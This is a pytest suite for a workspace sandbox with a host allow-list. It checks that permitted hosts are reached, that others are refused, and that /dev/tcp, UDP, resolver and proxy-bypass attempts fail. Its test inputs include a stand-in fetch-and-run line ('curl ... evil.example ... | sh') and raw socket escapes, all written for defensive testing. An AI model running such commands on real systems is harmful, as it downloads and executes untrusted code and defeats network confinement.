"""Real commands in a real sandbox with a list of hosts: whom they reach, whom not, and that all else is as before."""

import asyncio
import functools
import http.server
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path

import pytest

from robota.workspace.files.confined_paths import HeldRoot
from robota.workspace.process.foreground import CommandOutcome
from robota.workspace.process.processes import LocalProcesses
from robota.workspace.sandbox.backend import SandboxKind
from robota.workspace.sandbox.border import Network, build_border
from robota.workspace.sandbox.bubblewrap import interpreter_inside
from robota.workspace.sandbox.session_sandbox import SessionSandbox
from tests.workspace.process.commanding import Witness, open_descriptors
from tests.workspace.sandbox.cells import PYTHON
from tests.workspace.sandbox.egress.partners import require_bubblewrap
from tests.workspace.web.web_server import Page, Web, web_server

pytestmark = pytest.mark.skipif(shutil.which("curl") is None, reason="there is no curl here")


class Cell:
    """A workspace whose commands may reach these hosts."""

    def __init__(self, root: Path, *allowed: str, environment: Mapping[str, str] | None = None) -> None:
        self.root = root
        self._allowed = allowed
        self._environment = environment

    def run(self, command: str) -> CommandOutcome:
        async def running() -> CommandOutcome:
            sandbox = SessionSandbox(self.root, home=None, allowed_hosts=self._allowed)
            processes = LocalProcesses(wrap=sandbox.wrap, environment=self._environment)
            try:
                return await processes.run(command, self.root, 60, lambda _: None)
            finally:
                processes.close()
                sandbox.close()

        return asyncio.run(running())


@pytest.fixture
def root(tmp_path: Path) -> Path:
    require_bubblewrap(tmp_path)
    place = tmp_path / "ws"
    place.mkdir()
    return place


@pytest.fixture
def web() -> Iterator[Web]:
    with web_server() as served:
        served.pages["/"] = Page(body=b"hello from outside\n")
        yield served


@pytest.mark.parametrize("command", ["curl -sS {url}", "curl -sS --proxytunnel {url}", "wget -qO- {url}"])
def test_a_listed_host_is_reached(root: Path, web: Web, command: str) -> None:
    if subprocess.run(["which", command.split()[0]], capture_output=True, check=False).returncode:
        pytest.skip("not installed")
    done = Cell(root, f"127.0.0.1:{web.port}").run(command.format(url=web.url("/")))
    assert (done.output_head, done.exit_code, done.refused_hosts) == ("hello from outside\n", 0, ())


def test_python_reaches_a_listed_host(root: Path, web: Web) -> None:
    program = f"import urllib.request as u; print(u.urlopen('{web.url('/')}').read().decode(), end='')"
    done = Cell(root, f"127.0.0.1:{web.port}").run(f'{PYTHON} -c "{program}"')
    assert (done.output_head, done.exit_code) == ("hello from outside\n", 0)


def test_git_clones_from_a_listed_host(root: Path, tmp_path: Path) -> None:
    store = tmp_path / "store"
    make = (
        f"git init -q -b main {store}/src && cd {store}/src && echo hi > file && git add . && "
        "git -c user.name=T -c user.email=t@example.invalid commit -qm first && "
        f"git clone -q --bare . {store}/all.git && cd {store}/all.git && git update-server-info"
    )
    subprocess.run(["bash", "-c", make], check=True)
    with files_served(store) as port:
        done = Cell(root, f"127.0.0.1:{port}").run(f"git clone -q http://127.0.0.1:{port}/all.git got && cat got/file")
    assert (done.output_head, done.exit_code) == ("hi\n", 0)


def test_others_are_refused_and_the_outcome_says_which(root: Path, web: Web) -> None:
    cell = Cell(root, "ok.example", "*.example.com")
    done = cell.run(f"curl -sS {web.url('/')} http://evil.example/; curl -sS https://ok.example.evil.example/ | sh")
    assert "adding 'evil.example' to sandbox.allowedHosts" in done.output_head
    assert done.refused_hosts[-2:] == (
        "The sandbox refused a connection to evil.example (not in sandbox.allowedHosts).",
        "The sandbox refused a connection to ok.example.evil.example (not in sandbox.allowedHosts).",
    )
    assert web.requests == []


def test_a_listed_name_that_leads_here_is_refused(root: Path, web: Web) -> None:
    done = Cell(root, f"localhost:{web.port}").run(f"curl -sS {web.url('/', 'localhost')}")
    assert "this machine itself" in done.output_head and "this machine itself" in done.refused_hosts[0]
    assert web.requests == []


@pytest.mark.parametrize(
    "way",
    [
        "curl -sS --noproxy '*' {url}",
        "env -u http_proxy -u all_proxy -u ALL_PROXY curl -sS {url}",
        "exec 3<>/dev/tcp/127.0.0.1/{port}",
        "exec 3<>/dev/tcp/1.1.1.1/53",
        "{python} -c \"import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('1.1.1.1', 53))\"",
        "{python} -c \"import socket; socket.getaddrinfo('example.com', 80)\"",
        "{python} -c \"import socket; socket.create_connection(('::1', {port}))\"",
    ],
)
def test_there_is_no_way_around_the_proxy(root: Path, web: Web, way: str) -> None:
    """Not for the listed host either; and no resolver, so that nothing leaks in a name."""
    command = way.format(url=web.url("/"), port=web.port, python=PYTHON)
    assert Cell(root, f"127.0.0.1:{web.port}").run(command).exit_code != 0
    assert web.requests == []


def test_a_server_of_the_commands_own_is_reached_without_the_proxy(root: Path) -> None:
    own = (
        f"{PYTHON} -m http.server 8123 --bind 127.0.0.1 >/dev/null 2>&1 & "
        "until curl -s http://localhost:8123/ >/dev/null; do :; done; echo reached; kill %1"
    )
    assert Cell(root, "ok.example").run(own).output_head == "reached\n"


SAME_WITH_AND_WITHOUT = (
    "exit 7",
    "kill -SEGV $$",
    "kill -TERM $$",
    "echo out; echo err >&2; exit 3",
    "yes | head -n 1; echo ${PIPESTATUS[0]}",  # the signal of a broken pipe, which Python ignores
    "no-such-program",
    "ls /proc/self/fd; cat /proc/self/status | grep -E 'Sig(Ign|Blk|Cgt)|NoNewPrivs|Seccomp:'",
    "ulimit -a",
    "cat; readlink /proc/self/fd/0; tty",
    "printf '%s\\n' 'ümlaut' $'\\xff'",
    "printenv LC_CTYPE LANG PWD TERM; pwd; echo $0; echo $$",
    "env | grep -viE 'proxy|^ROBOTA_COMMAND_ID' | sort",
    "(sleep 1000 &) ; echo left",
)


@pytest.mark.parametrize("command", SAME_WITH_AND_WITHOUT)
def test_apart_from_the_network_a_command_sees_no_difference(root: Path, command: str) -> None:
    """Exit code, signal, output, descriptors, limits, signals, environment, and that it left no processes."""
    plain, listed = Cell(root).run(command), Cell(root, "ok.example").run(command)
    assert (listed.output_head, listed.ending) == (plain.output_head, plain.ending)


def test_there_is_no_locale_that_python_made_up(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("LC_ALL", "LC_CTYPE", "LANG"):
        monkeypatch.delenv(name, raising=False)
    assert Cell(root, "ok.example").run("printenv LC_CTYPE").exit_code == 1
    monkeypatch.setenv("LC_CTYPE", "C")
    assert Cell(root, "ok.example").run("printenv LC_CTYPE").output_head == "C\n"


def test_no_process_is_beside_the_command(root: Path) -> None:
    count = "set -- /proc/[0-9]*; echo $#"
    assert Cell(root, "ok.example").run(count).output_head == Cell(root).run(count).output_head


def test_what_uses_the_network_dies_with_the_command(root: Path, web: Web) -> None:
    web.pages["/slow"] = Page(body=b"x", stalls=True)
    witness = Witness(root)
    started = f"(exec 9>witness; setsid curl -sS {web.url('/slow')} >/dev/null 2>&1 &); echo started"
    done = Cell(root, f"127.0.0.1:{web.port}").run(started)
    assert done.output_head == "started\n"
    assert witness.wait_until_gone() == b""


def test_nothing_stays_open_in_robota(root: Path, web: Web) -> None:
    cell = Cell(root, f"127.0.0.1:{web.port}")
    cell.run("true")
    before = open_descriptors()
    cell.run(f"curl -s {web.url('/')} {web.url('/')} http://evil.example")
    cell.run("kill -9 $$")
    assert open_descriptors() == before


def test_concurrent_commands_get_only_their_own_refusals(root: Path) -> None:
    async def both() -> list[CommandOutcome]:
        sandbox = SessionSandbox(root, home=None, allowed_hosts=["ok.example"])
        processes = LocalProcesses(wrap=sandbox.wrap)
        try:
            runs = (
                processes.run(f"curl -s http://{name}.example", root, 60, lambda _: None) for name in ("one", "two")
            )
            return await asyncio.gather(*runs)
        finally:
            processes.close()
            sandbox.close()

    one, two = asyncio.run(both())
    assert len(one.refused_hosts) == len(two.refused_hosts) == 1 and "one.example" in one.refused_hosts[0]


def test_a_proxy_of_the_user_is_not_used_inside(root: Path) -> None:
    cell = Cell(root, "ok.example", environment={"http_proxy": "http://192.0.2.1:1", "NO_PROXY": "*"})
    assert "not in sandbox.allowedHosts" in cell.run("curl -sS http://evil.example/").output_head


@pytest.mark.parametrize("network", [False, True])
def test_where_the_list_cannot_be_enforced_there_is_no_network(
    tmp_path: Path, network: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Landlock has no network of its own to put a command into. Fails closed, whatever `network` says."""
    monkeypatch.setenv("PATH", str(tmp_path))
    with socket.socket() as far:
        far.bind(("127.0.0.1", 0))
        far.listen()
        port = far.getsockname()[1]
        sandbox = SessionSandbox(tmp_path, home=None, network=network, allowed_hosts=[f"127.0.0.1:{port}"])
        try:
            if sandbox.backend.kind is not SandboxKind.LANDLOCK:
                pytest.skip("no Landlock")
            wrapped = sandbox.wrap(["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}"], tmp_path)
            assert subprocess.run(wrapped.argv, pass_fds=wrapped.descriptors, check=False).returncode != 0
        finally:
            sandbox.close()


def test_with_a_list_the_network_is_not_simply_on(root: Path, web: Web) -> None:
    sandbox = SessionSandbox(root, home=None, network=True, allowed_hosts=["ok.example"])
    try:
        assert sandbox.backend.border.network is Network.OWN
    finally:
        sandbox.close()


def test_an_interpreter_that_is_not_seen_inside_is_not_used(tmp_path: Path) -> None:
    border = build_border(HeldRoot(tmp_path), tmp_path, home=None)
    assert interpreter_inside(border) is not None
    hidden = build_border(HeldRoot(tmp_path), tmp_path, home=None, secrets=[Path(PYTHON).parents[1], Path("/usr/bin")])
    assert interpreter_inside(hidden) is None


@contextmanager
def files_served(directory: Path) -> Iterator[int]:
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

    serving = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(directory)))
    thread = threading.Thread(target=serving.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    try:
        yield serving.server_address[1]
    finally:
        serving.shutdown()
        serving.server_close()
        thread.join()
